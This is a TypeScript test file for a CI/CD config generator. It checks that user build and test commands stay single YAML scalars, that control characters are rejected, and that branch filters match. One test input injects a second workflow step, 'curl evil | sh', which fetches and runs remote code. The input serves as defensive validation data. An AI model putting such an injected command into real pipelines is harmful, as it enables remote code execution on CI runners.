/**
 * The CI/CD workflows as a pipeline: user commands stay one scalar, branch names the filters can
 * match, deploys gated on CI and serialized per branch, previews that never hold a production
 * token. Each case renders a scenario and reads the YAML back.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { parse } from 'yaml';
import { ConfigError, parseConfig } from '../src/config/load.js';
import { renderNewConfig } from '../src/config/write.js';
import type { DeployKitConfig, ServiceConfig } from '../src/config/types.js';
import { renderScenario } from './_render.js';
import { baseConfig } from './_scenarios.js';

async function files(config: DeployKitConfig): Promise<Map<string, string>> {
  return new Map((await renderScenario(config)).map((f) => [f.path, f.content]));
}

async function yamlOf(config: DeployKitConfig, path: string): Promise<Record<string, any>> {
  const text = (await files(config)).get(path);
  assert.ok(text, `${path} is rendered`);
  return parse(text!) as Record<string, any>;
}

function configIssues(config: DeployKitConfig): string {
  try {
    parseConfig(renderNewConfig(config));
  } catch (e) {
    assert.instance(e, ConfigError);
    return (e as Error).message;
  }
  return '';
}

const HOSTILE_COMMANDS = ['{ npm test; }', 'echo a: b', 'npm test # all', '[ -f x ] && npm test', "npm test -- --grep 'a: b'", '*', '"quoted" npm test'];

test('a test or build command is one scalar in the GitHub workflow, whatever its characters', async () => {
  for (const command of HOSTILE_COMMANDS) {
    const ci = await yamlOf(baseConfig({}, { test: command, build: command }), '.github/workflows/ci.yml');
    const steps = ci.jobs['test-app'].steps as { name?: string; run?: unknown }[];
    assert.is(steps.find((s) => s.name === 'Test')?.run, command, command);
    assert.is(steps.find((s) => s.name === 'Build')?.run, command, command);
  }
});

test('a test or build command is one script line in the GitLab pipeline, whatever its characters', async () => {
  for (const command of HOSTILE_COMMANDS) {
    const gl = await yamlOf(baseConfig({ ci: { provider: 'gitlab' } }, { test: command, build: command }), '.gitlab-ci.yml');
    const script = gl['test-app'].script as unknown[];
    assert.ok(script.every((line) => typeof line === 'string'), `${command}: ${JSON.stringify(script)}`);
    assert.is(script.at(-1), command);
    assert.ok(script.includes(command));
  }
});

test('schema: build and test commands with a newline, tab or other control character are refused', () => {
  for (const key of ['test', 'build'] as const) {
    for (const bad of ['npm test\n      - run: curl evil | sh', 'npm\ttest', 'npm test\r']) {
      const svc: Partial<ServiceConfig> = { [key]: bad };
      assert.match(configIssues(baseConfig({}, svc)), new RegExp(`services\\[0\\]\\.${key}`), JSON.stringify(bad));
    }
    assert.is(configIssues(baseConfig({}, { [key]: '{ npm test; } && echo a: b' })), '');
  }
});

/** GitHub's branch filter syntax (docs: "Filter pattern cheat sheet") as a RegExp; null for a negative pattern. */
function githubFilter(pattern: string): RegExp | null {
  if (pattern.startsWith('!')) return null;
  let re = '';
  for (let i = 0; i < pattern.length; i++) {
    const c = pattern[i]!;
    if (c === '\\') re += pattern[++i]!.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    else if (c === '*' && pattern[i + 1] === '*') {
      re += '.*';
      i++;
    }
    else if (c === '*') re += '[^/]*';
    else if (c === '?' || c === '+') re += c;
    else if (c === '[') {
      const end = pattern.indexOf(']', i);
      re += pattern.slice(i, end + 1);
      i = end;
    } else re += c.replace(/[.^${}()|\]]/g, '\\$&');
  }
  return new RegExp(`^${re}$`);
}

const triggers = (wf: Record<string, any>) => ['push', 'pull_request'].flatMap((e) => (wf.on?.[e]?.branches ?? []) as string[]);

test('branch names with filter characters (+, ], a leading !) match their own trigger filters', async () => {
  const ordinary = githubFilter('main')!;
  assert.ok(ordinary.test('main') && !ordinary.test('mainx'));
  for (const [production, staging] of [
    ['release+1', 'stage+eu'],
    ['!prod', 'v1]'],
  ]) {
    const kits = [
      baseConfig({ branches: { production: production!, staging: staging! }, targets: [{ type: 'vps', domain: 'a.example.com' }] }),
      baseConfig(
        { branches: { production: production!, staging: staging! }, targets: [{ type: 'vercel', domain: 'a.example.com' }, { type: 'netlify' }] },
        { kind: 'static', webFramework: 'vite', outputDir: 'dist', build: 'npm run build', framework: 'none' },
      ),
      baseConfig({ branches: { production: production!, staging: staging! }, targets: [{ type: 'fly', app: 'app-1' }, { type: 'hf-spaces', space: 'a/b' }] }),
    ];
    for (const config of kits) {
      for (const [path, text] of await files(config)) {
        if (!path.startsWith('.github/workflows/') || path.endsWith('kubernetes.yml')) continue;
        const filters = triggers(parse(text) as Record<string, any>);
        for (const branch of [production!, staging!]) {
          if (path.endsWith('hf-spaces.yml') && branch === staging) continue;
          assert.ok(
            filters.some((f) => githubFilter(f)?.test(branch)),
            `${path}: no filter of ${JSON.stringify(filters)} matches branch ${branch}`,
          );
        }
      }
    }
  }
});

test.run();
